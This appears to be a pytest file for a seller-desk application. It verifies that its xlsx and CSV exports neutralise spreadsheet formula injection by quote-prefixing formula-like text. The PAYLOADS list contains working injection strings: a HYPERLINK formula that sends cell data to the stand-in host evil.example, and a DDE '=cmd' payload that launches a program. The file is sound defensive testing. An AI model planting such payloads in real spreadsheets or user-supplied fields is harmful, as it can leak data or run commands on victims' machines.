"""Every export writes buyers' text as text: no formula cells, formula-like text quote-prefixed (xlsx) or
apostrophe-prefixed (CSV), numbers still numbers. Each writer is read back from the file it wrote."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace
from pathlib import Path

from openpyxl import Workbook, load_workbook

from sellerdesk.domain.enums import Platform
from sellerdesk.platforms.registry import spec_of
from sellerdesk.sheets.catalog_sheets import write_sheet
from sellerdesk.sheets.safe_cells import csv_text, looks_like_formula
from sellerdesk.sheets.shipping import ShipRow, fill_template, write_ship_file
from sellerdesk.sheets.view_export import write_view

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
)


def _cells(path: Path) -> list[tuple[object, str, bool]]:
    book = load_workbook(path)
    cells = (c for ws in book.worksheets for row in ws.iter_rows() for c in row)
    return [(c.value, c.data_type, bool(c.quotePrefix)) for c in cells]


def _no_formula_elements(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def _assert_guarded(path: Path, payloads: tuple[str, ...] = PAYLOADS) -> None:
    _no_formula_elements(path)
    cells = _cells(path)
    assert not [c for c in cells if c[1] == "f"]
    for payload in payloads:
        # The CR of "\r=1+1" becomes a line feed (a cell's line end); the text is otherwise unchanged.
        found = [c for c in cells if c[0] == payload.replace("\r", "\n")]
        assert found, payload
        assert all(data_type == "s" and quoted for _, data_type, quoted in found), (payload, found)


def test_the_rule() -> None:
    assert all(looks_like_formula(p) for p in PAYLOADS)
    assert not looks_like_formula("张三") and not looks_like_formula("1+1")
    assert csv_text("-2+3") == "'-2+3" and csv_text("=1") == "'=1" and csv_text("ok") == "ok"
    assert csv_text(-5) == "-5" and csv_text(None) == ""


def test_view_export(tmp_path: Path) -> None:
    out = tmp_path / "view.xlsx"
    rows = [(p, -1250, f"row {i}") for i, p in enumerate(PAYLOADS)] + [("bad\x00\x1bchars", 3, None)]
    assert write_view(out, "订单", ["=header", "金额", "备注"], rows) == len(rows)
    _assert_guarded(out, (*PAYLOADS, "=header"))
    values = _cells(out)
    assert (-1250, "n", False) in values  # a negative amount stays a number
    assert ("badchars", "s", False) in values


def test_catalog_sheet(tmp_path: Path) -> None:
    out = tmp_path / "catalog.xlsx"
    write_sheet(out, "商品资料", ["商家编码", "商品名称", "售价"], [(p, p, -3) for p in PAYLOADS])
    _assert_guarded(out)


def test_batch_ship_files(tmp_path: Path) -> None:
    rows = [ShipRow(p, p, p) for p in PAYLOADS]
    layout = replace(spec_of(Platform.PDD).ship, carriers=("=carrier", "中通"))
    own = write_ship_file(tmp_path / "ship.xlsx", layout, rows)
    _assert_guarded(own, (*PAYLOADS, "=carrier"))
    template = tmp_path / "template.xlsx"
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["订单号", "快递公司", "快递单号"])
    book.save(template)
    _assert_guarded(fill_template(template, tmp_path / "filled.xlsx", layout, rows))


def test_problem_csv_cells() -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([[csv_text(p), csv_text(12)] for p in PAYLOADS])
    read = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert [r[0] for r in read] == ["'" + p for p in PAYLOADS]
    assert {r[1] for r in read} == {"12"}
